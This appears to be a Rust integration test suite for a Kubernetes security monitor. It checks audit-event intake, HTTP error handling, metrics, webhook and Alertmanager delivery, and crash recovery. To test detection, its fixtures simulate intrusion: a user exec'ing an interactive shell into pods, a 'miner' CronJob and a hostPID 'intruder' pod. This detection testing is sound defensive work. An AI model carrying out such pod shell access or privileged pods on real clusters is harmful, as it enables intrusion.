//! `kubevigil monitor --no-cluster` through the real binary over loopback: EventLists posted to
//! /audit become alerts on stdout and in the history; bad bodies get 400 and 413, a full spool
//! 503; /metrics counts it all; killed with SIGKILL right after a batch was acknowledged and
//! restarted on the same state directory, the monitor loses nothing and repeats no alert.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

struct Running {
    child: Child,
    alerts: mpsc::Receiver<Value>,
    audit: String,
    metrics: String,
}

/// A monitor a test is done with (or failed on) is stopped: left running, it would keep
/// retrying a test API server that is gone, for the rest of the suite.
impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Starts the monitor on free ports; returns once it listens.
fn start(state: &std::path::Path, extra: &[&str]) -> Running {
    let mut child = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .arg("monitor")
        .args(if extra.contains(&"--kubeconfig") {
            &[][..]
        } else {
            &["--no-cluster"][..]
        })
        .arg("--state-dir")
        .arg(state)
        .args(["--listen", "127.0.0.1:0", "--audit-listen", "127.0.0.1:0"])
        .args(if extra.contains(&"--tls-cert") {
            &[][..]
        } else {
            &["--audit-plain-http"][..]
        })
        .args(extra)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, alerts) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let line = line.unwrap();
            let _ = tx.send(serde_json::from_str(&line).expect("a JSON line"));
        }
    });
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let (mut audit, mut metrics) = (None, None);
    let mut line = String::new();
    while audit.is_none() || metrics.is_none() {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "monitor exited");
        let addr = |l: &str| {
            l.split("//")
                .nth(1)
                .unwrap()
                .split('/')
                .next()
                .unwrap()
                .to_string()
        };
        if line.contains("audit events on") {
            audit = Some(addr(&line));
        } else if line.contains("metrics on") {
            metrics = Some(addr(&line));
        }
    }
    // Keep draining stderr so the monitor never blocks on it.
    std::thread::spawn(move || {
        for line in stderr.lines() {
            let Ok(line) = line else { break };
            if line.contains("ERROR") || std::env::var_os("KUBEVIGIL_TEST_LOG").is_some() {
                eprintln!("monitor: {line}");
            }
        }
    });
    Running {
        child,
        alerts,
        audit: audit.unwrap(),
        metrics: metrics.unwrap(),
    }
}

/// One HTTP/1.1 request; returns (status, headers and body).
fn http(addr: &str, method: &str, path: &str, body: &[u8]) -> (u16, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .unwrap();
    // A server may answer (413) before reading the body, and close.
    let _ = s.write_all(body);
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    let status = out
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status: {out:?}"));
    (status, out)
}

fn exec_event(id: &str, pod: &str) -> Value {
    serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
        "stage": "ResponseStarted",
        "requestURI": format!("/api/v1/namespaces/shop/pods/{pod}/exec?command=sh&stdin=true&tty=true"),
        "verb": "create",
        "user": {"username": "mallory@example.com", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.9"], "userAgent": "kubectl/v1.31.0",
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": pod, "apiVersion": "v1"},
        "responseStatus": {"code": 101},
        "stageTimestamp": "2026-11-30T10:00:01.000000Z"
    })
}

fn event_list(items: &[Value]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": items
    }))
    .unwrap()
}

/// The exec alerts received until none comes for `quiet`, by the pod they name.
fn exec_alerts(rx: &mpsc::Receiver<Value>, first: Duration, quiet: Duration) -> Vec<String> {
    let mut pods = Vec::new();
    let mut wait = first;
    while let Ok(a) = rx.recv_timeout(wait) {
        wait = quiet;
        if a["name"] == "k8s_pod_exec" {
            pods.push(a["action"]["name"].as_str().unwrap_or("").to_string());
        }
    }
    pods
}

/// `promtool check metrics` (Debian's `prometheus` package) on the exposition: format and
/// naming lints. Under CI a missing promtool fails the test.
fn promtool_check(exposition: &str) {
    let promtool = ["/usr/bin/promtool", "/usr/local/bin/promtool"]
        .into_iter()
        .find(|p| std::path::Path::new(p).is_file());
    let Some(promtool) = promtool else {
        if std::env::var_os("CI").is_some() {
            panic!("promtool is missing (CI is set: install Debian's prometheus)");
        }
        eprintln!("skipped: promtool is missing (install Debian's prometheus)");
        return;
    };
    let mut child = Command::new(promtool)
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(exposition.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success() && out.stdout.is_empty() && out.stderr.is_empty(),
        "promtool: {}{}\n{exposition}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn audit_batches_become_alerts_and_survive_a_kill() {
    let dir = tempfile::tempdir().unwrap();
    let mut m = start(dir.path(), &["--max-body-bytes", "100000"]);

    let (code, text) = http(
        &m.audit,
        "POST",
        "/audit",
        &event_list(&[
            exec_event("e-1", "web-0"),
            serde_json::json!("not an event"),
        ]),
    );
    assert_eq!(code, 200, "{text}");
    assert_eq!(
        exec_alerts(
            &m.alerts,
            Duration::from_secs(10),
            Duration::from_millis(500)
        ),
        ["web-0"]
    );
    let (code, text) = http(&m.audit, "POST", "/audit", b"{\"kind\":\"Pod\"}");
    assert_eq!(code, 400, "{text}");
    assert!(text.contains("not an audit EventList"), "{text}");
    let big = event_list(&vec![exec_event("e-big", "big"); 300]);
    assert!(big.len() > 100_000);
    let (code, _) = http(&m.audit, "POST", "/audit", &big);
    assert_eq!(code, 413);
    let (code, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert_eq!(code, 200);
    for line in [
        "kubevigil_audit_events_received_total 2",
        "kubevigil_audit_events_spooled_total 1",
        "kubevigil_audit_events_processed_total 1",
        "kubevigil_audit_events_rejected_total{reason=\"malformed\"} 1",
        "kubevigil_audit_batches_rejected_total{reason=\"not_event_list\"} 1",
        "kubevigil_audit_batches_rejected_total{reason=\"too_large\"} 1",
        "kubevigil_alerts_total{rule=\"k8s_pod_exec\",severity=\"medium\"} 1",
    ] {
        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
    }
    assert_eq!(http(&m.metrics, "GET", "/readyz", b"").0, 200);
    promtool_check(metrics.split("\r\n\r\n").nth(1).unwrap());

    // Acknowledged, then killed at once: the batch is on disk.
    let (code, _) = http(
        &m.audit,
        "POST",
        "/audit",
        &event_list(&[exec_event("e-2", "db-0")]),
    );
    assert_eq!(code, 200);
    m.child.kill().unwrap();
    m.child.wait().unwrap();
    // Every alert the killed monitor wrote is read: its output ends (the channel closes) rather
    // than going quiet for a while, which a loaded machine can stretch.
    let before_kill = exec_alerts(&m.alerts, Duration::from_secs(60), Duration::from_secs(60));
    let told_before = before_kill.iter().any(|p| p == "db-0");

    let mut m = start(dir.path(), &[]);
    // Not told before the kill: the restarted monitor replays the spooled batch, however long
    // that takes; told before: a quiet while shows it is not told again.
    let after = exec_alerts(
        &m.alerts,
        Duration::from_secs(if told_before { 3 } else { 60 }),
        Duration::from_secs(1),
    );
    // db-0 is told, before the kill or after the restart; web-0 is not told again. A kill
    // between telling db-0 and committing it to the store tells it twice, never zero times.
    let db_told = before_kill
        .iter()
        .chain(&after)
        .filter(|p| *p == "db-0")
        .count();
    assert!(
        (1..=2).contains(&db_told) && after.iter().all(|p| p == "db-0"),
        "before the kill: {before_kill:?}, after the restart: {after:?}"
    );
    let history = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .args(["history", "-o", "json", "--since", "3650d", "--state-dir"])
        .arg(dir.path())
        .output()
        .unwrap();
    let h: Value = serde_json::from_slice(&history.stdout).unwrap();
    let exec = h["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["title"] == "Command executed in a pod (exec)")
        .count();
    assert!(exec >= 1, "{h}");
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// Bodies received at once share one byte budget, and each must arrive in time: clients that
/// declare large bodies and trickle them hold the budget only until `--body-timeout` (408), a
/// POST past the budget meanwhile gets 503 with `Retry-After` (kube-apiserver retries it), and
/// the intake serves again once they are gone.
#[test]
fn trickled_bodies_time_out_and_overload_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    // A budget of two bodies of 100,000 bytes.
    let m = start(
        dir.path(),
        &["--max-body-bytes", "100000", "--body-timeout", "8"],
    );
    let stalled: Vec<TcpStream> = (0..2)
        .map(|_| {
            let mut s = TcpStream::connect(&m.audit).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
            s.write_all(
                b"POST /audit HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{\"kind\":",
            )
            .unwrap();
            s
        })
        .collect();
    // The two stalled bodies hold the whole budget once the monitor reads their heads.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
        assert!(
            metrics.contains("kubevigil_request_body_limit_bytes 200000"),
            "{metrics}"
        );
        if metrics.contains("kubevigil_request_body_bytes_in_flight 200000") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the stalled bodies never held the budget"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let batch = event_list(&[exec_event("e-1", "web-0")]);
    let (code, refused) = http(&m.audit, "POST", "/audit", &batch);
    assert_eq!(code, 503, "{refused}");
    assert!(
        refused.to_ascii_lowercase().contains("retry-after: 1"),
        "{refused}"
    );
    assert!(
        refused.contains("too many request bytes in flight"),
        "{refused}"
    );
    for mut s in stalled {
        let mut answer = String::new();
        let _ = s.read_to_string(&mut answer);
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    }
    let (code, text) = http(&m.audit, "POST", "/audit", &batch);
    assert_eq!(code, 200, "{text}");
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    for line in [
        "kubevigil_audit_batches_rejected_total{reason=\"overloaded\"} 1",
        "kubevigil_audit_batches_rejected_total{reason=\"timeout\"} 2",
        "kubevigil_request_body_bytes_in_flight 0",
    ] {
        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
    }
    let mut m = m;
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// A local HTTP receiver answering 200 to every request; each request (head and body) goes to
/// the channel.
/// What a receiver got: (path, body) per request.
type Requests = mpsc::Receiver<(String, Vec<u8>)>;

fn receiver() -> (String, Requests) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut head = String::new();
            let mut length = 0usize;
            loop {
                let mut line = String::new();
                if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
                head.push_str(&line);
            }
            let mut body = vec![0u8; length];
            let _ = r.read_exact(&mut body);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            let _ = tx.send((head, body));
        }
    });
    (addr, rx)
}

#[test]
fn a_full_spool_answers_503_keeps_nothing_half_and_tells_the_sinks() {
    let dir = tempfile::tempdir().unwrap();
    let (addr, requests) = receiver();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "s3cret\n").unwrap();
    let url = format!("http://{addr}/hook");
    let mut m = start(
        &dir.path().join("state"),
        &[
            "--spool-max-bytes",
            "2000",
            "--webhook",
            &url,
            "--webhook-secret-file",
            secret.to_str().unwrap(),
        ],
    );
    let body = event_list(&vec![exec_event("e-1", "web-0"); 10]);
    let (code, text) = http(&m.audit, "POST", "/audit", &body);
    assert_eq!(code, 503, "{text}");
    assert!(
        text.to_ascii_lowercase().contains("retry-after: 5"),
        "{text}"
    );
    assert!(text.contains("the audit spool is full"), "{text}");
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        metrics.contains("kubevigil_audit_batches_rejected_total{reason=\"spool_full\"} 1"),
        "{metrics}"
    );
    assert!(metrics.contains("kubevigil_spool_bytes 0"), "{metrics}");
    // The sinks hear of it, signed.
    let (head, sent) = requests
        .recv_timeout(Duration::from_secs(10))
        .expect("a notification");
    let sent_text = String::from_utf8_lossy(&sent);
    assert!(sent_text.contains("KubevigilAuditSpoolFull"), "{sent_text}");
    let signature = kubevigil_sinks::webhook::signature_header(b"s3cret", &sent);
    assert!(
        head.to_ascii_lowercase()
            .contains(&format!("x-kubevigil-signature: {signature}")),
        "{head}"
    );
    // A batch that fits is taken.
    let (code, _) = http(
        &m.audit,
        "POST",
        "/audit",
        &event_list(&[exec_event("e-2", "db-0")]),
    );
    assert_eq!(code, 200);
    assert_eq!(
        exec_alerts(
            &m.alerts,
            Duration::from_secs(10),
            Duration::from_millis(300)
        ),
        ["db-0"]
    );
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

#[test]
fn bad_options_and_an_unreachable_cluster_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .args([
            "monitor",
            "--no-cluster",
            "--audit-listen",
            "127.0.0.1:0",
            "--state-dir",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--audit-plain-http"), "{err}");
    // Without --no-cluster, a cluster it cannot connect to is an error that says why.
    let out = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .args(["monitor", "--listen", "127.0.0.1:0", "--state-dir"])
        .arg(dir.path())
        .env("KUBECONFIG", dir.path().join("missing-kubeconfig"))
        .env("HOME", dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("missing-kubeconfig"), "{err}");
}

#[test]
fn an_audit_log_file_is_followed() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    std::fs::write(&log, "").unwrap();
    let log_arg = log.to_str().unwrap().to_string();
    let mut m = start(&dir.path().join("state"), &["--audit-log", &log_arg]);
    let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    writeln!(f, "{}", exec_event("f-1", "web-0")).unwrap();
    writeln!(f, "not an event").unwrap();
    assert_eq!(
        exec_alerts(
            &m.alerts,
            Duration::from_secs(10),
            Duration::from_millis(500)
        ),
        ["web-0"]
    );
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    let file = format!("{{file=\"{log_arg}\"}}");
    for line in [
        format!("kubevigil_audit_log_events_total{file} 1"),
        format!("kubevigil_audit_log_lines_rejected_total{file} 1"),
    ] {
        assert!(metrics.contains(&line), "{line} missing:\n{metrics}");
    }
    promtool_check(metrics.split("\r\n\r\n").nth(1).unwrap());
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// An alert reaches a real Alertmanager (Debian's `prometheus-alertmanager`) through the
/// monitor's outbox, labelled as the issue's contract says; /metrics counts the delivery.
#[test]
fn alerts_reach_a_real_alertmanager() {
    use kubevigil_sinks::testing::{binary_or_skip, free_port, get, start as start_am};
    let Some(binary) = binary_or_skip() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let am_dir = dir.path().join("am");
    std::fs::create_dir(&am_dir).unwrap();
    let am = start_am(&binary, &am_dir, free_port());
    let url = format!("http://127.0.0.1:{}", am.port);
    let mut m = start(
        &dir.path().join("state"),
        &["--alertmanager", &url, "--cluster-name", "prod-eu"],
    );
    let (code, _) = http(
        &m.audit,
        "POST",
        "/audit",
        &event_list(&[exec_event("a-1", "web-0")]),
    );
    assert_eq!(code, 200);
    assert_eq!(
        exec_alerts(
            &m.alerts,
            Duration::from_secs(10),
            Duration::from_millis(300)
        ),
        ["web-0"]
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let exec = loop {
        let (_, body) = get(am.port, "/api/v2/alerts").unwrap();
        let alerts: Value = serde_json::from_str(&body).unwrap_or(Value::Null);
        let found = alerts.as_array().into_iter().flatten().find(|a| {
            a["labels"]["rule"]
                .as_str()
                .is_some_and(|r| r.contains("exec"))
                || a["labels"]["alertname"]
                    .as_str()
                    .is_some_and(|n| n.contains("exec"))
        });
        if let Some(a) = found {
            break a.clone();
        }
        assert!(
            std::time::Instant::now() < deadline,
            "not in Alertmanager: {body}"
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    let labels = &exec["labels"];
    assert_eq!(labels["cluster"], "prod-eu", "{exec}");
    assert_eq!(labels["namespace"], "shop", "{exec}");
    assert_eq!(labels["severity"], "medium", "{exec}");
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        metrics.contains("kubevigil_sink_delivered_total{sink=\"alertmanager-1\"}"),
        "{metrics}"
    );
    promtool_check(metrics.split("\r\n\r\n").nth(1).unwrap());
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// Over TLS, as kube-apiserver's webhook backend talks to it: the serving certificate given,
/// verified by a client that trusts only its CA.
#[test]
fn the_audit_endpoint_serves_tls() {
    let dir = tempfile::tempdir().unwrap();
    let tls = kubevigil_webhook::manifests::generate_tls(vec!["localhost".into()]).unwrap();
    let (cert, key) = (dir.path().join("tls.crt"), dir.path().join("tls.key"));
    std::fs::write(&cert, &tls.cert_pem).unwrap();
    std::fs::write(&key, &tls.key_pem).unwrap();
    let mut m = start(
        &dir.path().join("state"),
        &[
            "--tls-cert",
            cert.to_str().unwrap(),
            "--tls-key",
            key.to_str().unwrap(),
        ],
    );
    let addr: std::net::SocketAddr = m.audit.parse().unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let (status, body) = rt.block_on(async {
        let mut c = kubevigil_webhook::client::connect(addr, &tls.ca_pem, "localhost")
            .await
            .unwrap();
        c.request("POST", "/audit", event_list(&[exec_event("t-1", "web-0")]))
            .await
            .unwrap()
    });
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert_eq!(
        exec_alerts(
            &m.alerts,
            Duration::from_secs(10),
            Duration::from_millis(300)
        ),
        ["web-0"]
    );
    // Plain HTTP on the TLS port gets nothing.
    let mut s = TcpStream::connect(&m.audit).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let _ = s.write_all(b"POST /audit HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    assert!(
        !out.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&out)
    );
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// The history's finding transitions: (change, checkId, object kind/name, fingerprint).
fn history(state: &std::path::Path) -> Vec<(String, String, String, String)> {
    let out = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .args(["history", "-o", "json", "--since", "3650d", "--state-dir"])
        .arg(state)
        .output()
        .unwrap();
    let h: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "history: {e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    h["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|f| {
            let s = |v: &Value| v.as_str().unwrap_or("").to_string();
            (
                s(&f["change"]),
                s(&f["checkId"]),
                format!("{}/{}", s(&f["object"]["kind"]), s(&f["object"]["name"])),
                s(&f["fingerprint"]),
            )
        })
        .collect()
}

/// The ids of the notifications a receiver got until none came for `quiet`.
fn notification_ids(rx: &mpsc::Receiver<(String, Vec<u8>)>, quiet: Duration) -> Vec<String> {
    let mut ids = Vec::new();
    while let Ok((_, body)) = rx.recv_timeout(quiet) {
        let v: Value = serde_json::from_slice(&body).unwrap();
        for n in v["notifications"].as_array().into_iter().flatten() {
            ids.push(n["id"].as_str().unwrap_or("").to_string());
        }
    }
    ids
}

/// Against the test API server: the cluster's findings go to the history and the sinks; a fix
/// made on the server resolves its finding; a restart tells nothing already known.
#[test]
fn the_cluster_is_evaluated_and_changes_are_told_once() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    let loaded = kubevigil_model::load_paths(
        &[std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/insecure")],
        &kubevigil_model::LoadOptions::default(),
    );
    let served: Vec<Value> = loaded
        .inventory
        .objects
        .into_iter()
        .map(|o| api.create(o.value).unwrap())
        .collect();
    let (dir, base, requests) = watched_with_webhook(&api);
    let state = dir.path().join("state");
    let args: Vec<&str> = base.iter().map(String::as_str).collect();
    let mut m = start(&state, &args);
    let first = notification_ids(&requests, Duration::from_secs(10));
    let new: Vec<&String> = first.iter().filter(|i| i.contains("/new/")).collect();
    assert!(!new.is_empty(), "{first:?}");
    assert!(first.iter().all(|i| i.starts_with("finding/")), "{first:?}");
    let h = history(&state);
    assert_eq!(h.len(), new.len(), "{h:?}");
    assert!(h.iter().all(|t| t.0 == "new"));

    // Fix one finding on the server: a container image tagged latest, pinned.
    let (_, check, name, fingerprint) = h
        .iter()
        .find(|t| t.1 == "image-tag-latest")
        .cloned()
        .expect("an image-tag-latest finding in examples/insecure");
    assert_eq!(check, "image-tag-latest");
    let mut fixed = served
        .iter()
        .find(|o| {
            format!(
                "{}/{}",
                o["kind"].as_str().unwrap(),
                o["metadata"]["name"].as_str().unwrap()
            ) == name
        })
        .cloned()
        .unwrap();
    let pin = |c: &mut Value| {
        if let Some(image) = c["image"].as_str() {
            let base = image.split(':').next().unwrap().to_string();
            c["image"] = Value::String(format!("{base}:1.27@sha256:{}", "a".repeat(64)));
        }
    };
    for path in ["/spec/containers", "/spec/template/spec/containers"] {
        if let Some(cs) = fixed.pointer_mut(path).and_then(Value::as_array_mut) {
            cs.iter_mut().for_each(pin);
        }
    }
    api.apply(fixed).unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    while !history(&state)
        .iter()
        .any(|t| t.0 == "resolved" && t.3 == fingerprint)
    {
        assert!(
            std::time::Instant::now() < deadline,
            "{fingerprint} not resolved: {:?}",
            history(&state)
                .into_iter()
                .filter(|t| t.0 != "new")
                .collect::<Vec<_>>()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let resolved = notification_ids(&requests, Duration::from_secs(3));
    assert!(
        resolved
            .iter()
            .any(|i| i.starts_with(&format!("finding/{fingerprint}/resolved/"))),
        "{resolved:?}"
    );
    // A new object that breaks a check becomes a finding, told as new; deleting it resolves
    // its findings, told as resolved.
    let pod = serde_json::json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "intruder", "namespace": "default"},
        "spec": {"hostPID": true, "containers": [{"name": "c", "image": "busybox:1.36"}]}});
    api.create(pod).unwrap();
    // The object checks' findings at once, the whole-inventory engines' ones (NetworkPolicy)
    // when they have run again.
    let appeared = wait_for_history(
        &state,
        |t| t.0 == "new" && t.2 == "Pod/intruder",
        |found| {
            ["pss-hostNamespaces", "netpol-workload-not-selected"]
                .iter()
                .all(|c| found.iter().any(|t| t.1 == *c))
        },
    );
    let told = notification_ids(&requests, Duration::from_secs(2));
    for t in &appeared {
        assert!(
            told.iter()
                .any(|i| i.starts_with(&format!("finding/{}/new/", t.3))),
            "{t:?} not told: {told:?}"
        );
    }
    api.delete("v1", "Pod", Some("default"), "intruder")
        .unwrap();
    let resolved = wait_for_history(
        &state,
        |t| t.0 == "resolved" && t.2 == "Pod/intruder",
        |found| found.len() >= appeared.len(),
    );
    assert_eq!(resolved.len(), appeared.len(), "{resolved:?}");
    let told = notification_ids(&requests, Duration::from_secs(2));
    for t in &resolved {
        assert!(
            told.iter()
                .any(|i| i.starts_with(&format!("finding/{}/resolved/", t.3))),
            "{t:?} not told: {told:?}"
        );
    }
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        metrics.contains("kubevigil_evaluations_total{result=\"complete\"}"),
        "{metrics}"
    );
    assert!(
        metrics.contains("kubevigil_watched_objects{kind=\"Pod\"}"),
        "{metrics}"
    );
    assert!(
        metrics.contains("kubevigil_check_findings{check=\"image-tag-latest\""),
        "{metrics}"
    );
    promtool_check(metrics.split("\r\n\r\n").nth(1).unwrap());
    m.child.kill().unwrap();
    m.child.wait().unwrap();

    // A restart on the same state: evaluations run, nothing is told again.
    let mut m = start(&state, &args);
    std::thread::sleep(Duration::from_secs(3));
    let again = notification_ids(&requests, Duration::from_secs(1));
    assert!(again.is_empty(), "{again:?}");
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        metrics.contains("kubevigil_evaluations_total{result=\"complete\"}"),
        "{metrics}"
    );
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// A state directory holding a kubeconfig for `api`, and the monitor's options to follow it
/// (whole evaluation every second) and to send to a signed webhook, whose requests come on the
/// receiver.
fn watched_with_webhook(
    api: &kubevigil_testapi::TestApi,
) -> (tempfile::TempDir, Vec<String>, Requests) {
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
    let (addr, requests) = receiver();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "s").unwrap();
    let args = [
        "--kubeconfig",
        kubeconfig.to_str().unwrap(),
        "--resync-interval",
        "1",
        "--webhook",
        &format!("http://{addr}/hook"),
        "--webhook-secret-file",
        secret.to_str().unwrap(),
    ]
    .map(String::from)
    .to_vec();
    (dir, args, requests)
}

/// The history's transitions matching `want`, waited for until they are `enough` (15 s at most).
fn wait_for_history(
    state: &std::path::Path,
    want: impl Fn(&(String, String, String, String)) -> bool,
    enough: impl Fn(&[(String, String, String, String)]) -> bool,
) -> Vec<(String, String, String, String)> {
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    loop {
        let found: Vec<_> = history(state).into_iter().filter(|t| want(t)).collect();
        if !found.is_empty() && enough(&found) {
            return found;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "not in the history: {:?}",
            history(state)
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A watch that cannot be established (the API server refuses to list Pods) turns /readyz red
/// and is told to the sinks after the grace period; the runs meanwhile are incomplete. Once
/// the server serves Pods again, /readyz is green.
#[test]
fn a_failing_watch_turns_readyz_red_and_is_told() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    api.add_fault(kubevigil_testapi::Fault::status("", "pods", 500));
    let (dir, base, requests) = watched_with_webhook(&api);
    let state = dir.path().join("state");
    let mut args: Vec<&str> = base.iter().map(String::as_str).collect();
    args.extend(["--watch-failure-grace", "2"]);
    let mut m = start(&state, &args);
    let (code, body) = http(&m.metrics, "GET", "/readyz", b"");
    assert_eq!(code, 200, "green during the grace period: {body}");
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let body = loop {
        let (code, body) = http(&m.metrics, "GET", "/readyz", b"");
        if code == 503 {
            break body;
        }
        assert!(std::time::Instant::now() < deadline, "still ready: {body}");
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(body.contains("watch failing: Pod: "), "{body}");
    assert!(body.contains("/api/v1/pods"), "{body}");
    let told = notification_ids(&requests, Duration::from_secs(3));
    assert!(
        told.iter()
            .any(|i| i.starts_with("monitor/KubevigilWatchFailing/")),
        "{told:?}"
    );
    let (_, metrics) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(metrics.contains("kubevigil_watch_failing 1"), "{metrics}");
    assert!(
        metrics.contains("kubevigil_evaluations_total{result=\"incomplete\"}"),
        "{metrics}"
    );
    assert!(
        !metrics.contains("kubevigil_evaluations_total{result=\"complete\"}"),
        "{metrics}"
    );
    assert!(
        metrics.contains("kubevigil_watch_failures_total{kind=\"Pod\"}"),
        "{metrics}"
    );
    api.clear_faults();
    let deadline = std::time::Instant::now() + Duration::from_secs(45);
    loop {
        let (code, body) = http(&m.metrics, "GET", "/readyz", b"");
        if code == 200 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "still not ready: {body}"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

fn cronjob_event(id: &str) -> Value {
    serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
        "stage": "ResponseComplete",
        "requestURI": "/apis/batch/v1/namespaces/shop/cronjobs",
        "verb": "create",
        "user": {"username": "mallory@example.com", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.9"], "userAgent": "kubectl/v1.31.0",
        "objectRef": {"resource": "cronjobs", "namespace": "shop", "name": "miner", "apiGroup": "batch", "apiVersion": "v1"},
        "responseStatus": {"code": 201},
        "stageTimestamp": "2026-11-30T10:00:02.000000Z"
    })
}

/// (alertname, severity) of each notification a receiver got until none came for `quiet`.
